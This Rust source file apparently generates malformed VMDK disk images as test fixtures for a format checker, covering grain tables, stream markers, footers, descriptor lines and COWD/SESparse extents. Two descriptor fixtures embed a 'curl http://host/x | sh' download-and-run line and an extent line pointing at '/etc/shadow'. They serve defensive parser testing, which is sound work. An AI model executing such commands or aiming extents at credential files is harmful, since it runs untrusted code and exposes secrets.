//! Images that are read correctly and whose structure is wrong.

use std::collections::BTreeMap;

use crate::bytes::put;
use crate::disk::{Noise, text};
use crate::model::AnomalousImage;
use crate::rows::anomaly;
use crate::vmdk::encode::{
    Cell, Hosted, Written, cells_of, cowd, descriptor, file, recipe, sectors, sesparse,
};

const SECTOR: u64 = 512;
/// Bytes of a grain of the recipe.
const GRAIN: usize = 1 << 16;

/// All of them.
pub(crate) fn anomalous() -> Vec<AnomalousImage> {
    let mut all = hosted();
    all.extend(streams());
    all.extend(texts());
    all.extend(extents());
    all
}

fn row(
    name: &'static str,
    about: &'static str,
    code: &'static str,
    at: u64,
    bytes: Vec<u8>,
) -> AnomalousImage {
    anomaly("vmdk", (name, about, code, at), bytes)
}

fn edited(written: &Written, edits: &[(u64, &[u8])]) -> Vec<u8> {
    let mut file = written.file.clone();
    for (at, bytes) in edits {
        put(&mut file, *at, bytes);
    }
    file
}

fn entry(sector: u64) -> [u8; 4] {
    (sector as u32).to_le_bytes()
}

fn hosted() -> Vec<AnomalousImage> {
    // 16 grains of 64 KiB, of which 0, 1 and 4 are stored, in the first table of both directories.
    let written = recipe().write();
    let with = |edits: &[(u64, &[u8])]| edited(&written, edits);
    let table = written.entries[&0];
    let copy = written.redundant + SECTOR;
    let last = written.places[&4];
    let mut roomy = written.file.clone();
    roomy.resize(roomy.len() + 2 * GRAIN, 0);
    let end = written.file.len() as u64;
    vec![
        row(
            "vmdk-redundant-differs",
            "a redundant table with another grain",
            "vmdk.check.redundant",
            copy + 16,
            with(&[(copy + 16, &entry(written.places[&1] / SECTOR))]),
        ),
        row(
            "vmdk-redundant-forgets",
            "a redundant directory without its table",
            "vmdk.check.redundant",
            written.redundant,
            with(&[(written.redundant, &entry(0))]),
        ),
        row(
            "vmdk-redundant-none",
            "a redundant directory without an offset",
            "vmdk.check.redundant-none",
            48,
            with(&[(48, &[0; 8])]),
        ),
        row(
            "vmdk-grain-forgotten",
            "a grain that no table names",
            "vmdk.check.leak",
            last,
            with(&[(table + 16, &entry(0)), (copy + 16, &entry(0))]),
        ),
        row("vmdk-grain-room", "room for two grains at the end", "vmdk.check.leak", end, roomy),
        row(
            "vmdk-overhead-large",
            "grains in front of where they begin",
            "vmdk.check.grain-in-overhead",
            table,
            with(&[(64, &(written.places[&1] / SECTOR).to_le_bytes())]),
        ),
        row(
            "vmdk-overhead-past-end",
            "grains that begin after the file's end",
            "vmdk.check.overhead",
            64,
            with(&[(64, &(1u64 << 40).to_le_bytes())]),
        ),
        row(
            "vmdk-entry-beyond-capacity",
            "a grain after the disk's end",
            "vmdk.check.entry-beyond-capacity",
            table + 20 * 4,
            with(&[(table + 20 * 4, &entry(last / SECTOR))]),
        ),
        row(
            "vmdk-table-beyond-capacity",
            "a table after the disk's end",
            "vmdk.check.table-beyond-capacity",
            written.directory + 8,
            with(&[(written.directory + 8, &entry(table / SECTOR))]),
        ),
        row(
            "vmdk-header-padding",
            "bytes after the header",
            "vmdk.check.header-padding",
            100,
            with(&[(100, b"x")]),
        ),
        row("vmdk-zeroed-v1", "zeroed grains in version 1", "vmdk.check.version", 4, with(&[(8, &[7])])),
    ]
}

fn streams() -> Vec<AnomalousImage> {
    let cells = BTreeMap::from([
        (0, Cell::Data(text(GRAIN))),
        (1, Cell::Data(Noise::new(1).bytes(GRAIN))),
        (4, Cell::Data(text(GRAIN))),
    ]);
    let recipe = Hosted { cells, ..Hosted::new(128, &vec![0; 1 << 20]).stream() };
    let written = recipe.embedded("streamOptimized", "x.vmdk").write();
    let with = |edits: &[(u64, &[u8])]| edited(&written, edits);
    let len = written.file.len() as u64;
    let (footer, first, table) = (len - 2 * SECTOR, written.places[&0], written.entries[&0]);
    // Grain 4 in the place of grain 0: the tables agree, the order differs.
    let swapped = with(&[
        (first, &512u64.to_le_bytes()),
        (written.places[&4], &0u64.to_le_bytes()),
        (table, &entry(written.places[&4] / SECTOR)),
        (table + 16, &entry(first / SECTOR)),
    ]);
    vec![
        row(
            "vmdk-stream-swapped",
            "grains out of order",
            "vmdk.check.stream-order",
            written.places[&1],
            swapped,
        ),
        row(
            "vmdk-stream-forgotten",
            "a grain that no table names",
            "vmdk.check.leak",
            first,
            with(&[(table, &entry(0))]),
        ),
        row(
            "vmdk-stream-table-size",
            "a marker of a table with another size",
            "vmdk.check.stream-size",
            table - SECTOR,
            with(&[(table - SECTOR, &[3])]),
        ),
        row(
            "vmdk-stream-directory-size",
            "a marker of a directory with another size",
            "vmdk.check.stream-size",
            written.directory - SECTOR,
            with(&[(written.directory - SECTOR, &[2])]),
        ),
        row(
            "vmdk-stream-early-end",
            "an end before the tables",
            "vmdk.check.stream-end",
            table - SECTOR,
            with(&[(table - SECTOR, &[0; 16])]),
        ),
        row(
            "vmdk-stream-unknown",
            "an invalid marker",
            "vmdk.check.stream-marker",
            table - SECTOR + 12,
            with(&[(table - SECTOR + 12, &[9])]),
        ),
        row(
            "vmdk-stream-far",
            "a grain after the disk's end",
            "vmdk.check.stream-lba",
            first,
            with(&[(first, &(1u64 << 30).to_le_bytes()), (table, &entry(0))]),
        ),
        row(
            "vmdk-footer-overhead",
            "a footer that is not the header",
            "vmdk.check.footer",
            footer + 64,
            with(&[(footer + 64, &[7])]),
        ),
        row(
            "vmdk-footer-descriptor",
            "a footer with another offset of the descriptor",
            "vmdk.check.footer",
            footer + 28,
            with(&[(footer + 28, &[2])]),
        ),
    ]
}

fn texts() -> Vec<AnomalousImage> {
    let disk = sectors(1024);
    let of = |name: &'static str, about, code, kind: &str, mark: &str, from: &str, to: &str| {
        let lines = [format!("RW 2 FLAT \"{name}-flat\" 0")];
        let text = descriptor(kind, 1, None, &lines).replace(from, to);
        let at = text.find(mark).expect("it is there") as u64;
        let mut odd = row(name, about, code, at, text.into_bytes());
        odd.files.push(file(format!("{name}-flat"), disk.clone()));
        odd
    };
    let mut longer = of(
        "vmdk-flat-longer",
        "a flat file with more",
        "vmdk.check.flat-longer",
        "monolithicFlat",
        "#",
        "",
        "",
    );
    longer.files[1].bytes.resize(2048, 0);
    longer.at = Some(1024);
    let cid = "vmdk.check.cid";
    vec![
        longer,
        of(
            "vmdk-type-vmfs",
            "another type than its extent",
            "vmdk.check.create-type",
            "vmfs",
            "createType",
            "",
            "",
        ),
        of(
            "vmdk-cid-none",
            "an id that means none",
            cid,
            "monolithicFlat",
            "CID=",
            "CID=00000001",
            "CID=ffffffff",
        ),
        of(
            "vmdk-long-content-id",
            "two ids",
            "vmdk.check.long-content-id",
            "monolithicFlat",
            "ddb.long",
            "#DDB",
            "ddb.longContentID = \"00000000000000000000000000000002\"",
        ),
        of(
            "vmdk-descriptor-odd-line",
            "an invalid line",
            "vmdk.descriptor.odd-line",
            "monolithicFlat",
            "curl",
            "#DDB",
            "curl http://host/x | sh\n#DDB",
        ),
        of(
            "vmdk-descriptor-almost-an-extent",
            "a line that another reader may take for an extent",
            "vmdk.descriptor.odd-line",
            "monolithicFlat",
            "RW\u{a0}2",
            "#DDB",
            "RW\u{a0}2 FLAT \"/etc/shadow\" 0\n#DDB",
        ),
        of(
            "vmdk-descriptor-after-end",
            "a line after the end of the text",
            "vmdk.descriptor.after-end",
            "monolithicFlat",
            "ddb.comment = \"old",
            "#DDB",
            "#DDB\n\0ddb.comment = \"old\"",
        ),
        of(
            "vmdk-geometry",
            "a geometry of another disk",
            "vmdk.check.geometry",
            "monolithicFlat",
            "ddb.geometry.cyl",
            "cylinders = \"1\"",
            "cylinders = \"500\"",
        ),
    ]
}

fn extents() -> Vec<AnomalousImage> {
    let disk = sectors(100_352);
    let over = |name: &'static str, about, kind: &str, code, at, bytes: Vec<u8>| {
        let lines = [format!("RW {} {kind} \"{name}-x\"", disk.len() / 512)];
        let mut odd = row(name, about, code, at, descriptor("custom", 1, None, &lines).into_bytes());
        odd.files.push(file(format!("{name}-x"), bytes));
        odd
    };
    let (cow, se) = (cowd(1, &disk), sesparse(disk.len(), &cells_of(&disk, 4096)));
    let cow_last = *cow.entries.keys().max().expect("there are some");
    let (cow_entry, cow_place) = (cow.entries[&cow_last], cow.places[&cow_last]);
    let cow_free = (cow_place / SECTOR) as u32;
    let mut alias = over(
        "vmdk-cowd-called-sparse",
        "a COWD file in a line of another type",
        "SPARSE",
        "vmdk.check.extent-magic",
        0,
        cow.file.clone(),
    );
    let text = String::from_utf8(alias.files[0].bytes.clone()).expect("a text");
    alias.at = text.find("RW ").map(|at| at as u64);
    vec![
        alias,
        over(
            "vmdk-cowd-free",
            "a grain where all is free",
            "VMFSSPARSE",
            "vmdk.check.grain-in-free",
            cow_entry,
            edited(&cow, &[(28, &cow_free.to_le_bytes())]),
        ),
        over(
            "vmdk-cowd-free-past-end",
            "in use after the file's end",
            "VMFSSPARSE",
            "vmdk.check.free-sector",
            28,
            edited(&cow, &[(28, &[0xff; 4])]),
        ),
        over(
            "vmdk-cowd-forgotten",
            "a grain that no table names",
            "VMFSSPARSE",
            "vmdk.check.leak",
            cow_place,
            edited(&cow, &[(cow_entry, &[0; 4])]),
        ),
        over(
            "vmdk-sesparse-bitmap-past-end",
            "a free bitmap after the file's end",
            "SESPARSE",
            "vmdk.check.place-past-end",
            160,
            edited(&se, &[(160, &(1u64 << 40).to_le_bytes())]),
        ),
        over(
            "vmdk-sesparse-few-grains",
            "grains after the place for grains",
            "SESPARSE",
            "vmdk.check.grain-outside",
            se.entries[&0],
            edited(&se, &[(200, &8u64.to_le_bytes())]),
        ),
        over(
            "vmdk-sesparse-entry-beyond",
            "a grain after the disk's end",
            "SESPARSE",
            "vmdk.check.entry-beyond-capacity",
            se.entries[&0] + 100 * 8,
            edited(&se, &[(se.entries[&0] + 100 * 8, &(3u64 << 60).to_le_bytes())]),
        ),
    ]
}
